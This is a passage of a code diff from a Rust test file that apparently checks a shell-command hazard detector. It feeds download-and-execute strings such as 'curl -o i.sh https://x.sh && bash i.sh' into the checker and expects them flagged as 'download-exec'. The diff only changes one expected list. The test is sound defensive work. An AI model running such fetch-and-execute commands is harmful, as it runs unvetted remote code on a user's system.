@@ -1721,14 +1721,14 @@ fn catastrophic_shapes_are_hazards() {
         "curl -o i.sh https://x.sh && bash i.sh",
         &["curl -o i.sh https://x.sh", "bash i.sh"],
         &["W i.sh", "F https://x.sh", "R i.sh"],
-        &[],
+        &["earlier part"],
         &["download-exec"],
     );
     check(
         "curl -o i.sh https://x.sh; chmod +x i.sh; ./i.sh",
         &["curl -o i.sh https://x.sh", "chmod +x i.sh", "./i.sh"],
         &["W i.sh", "F https://x.sh", "W i.sh"],
-        &[],
+        &["earlier part"],
         &["download-exec"],
     );
     check(
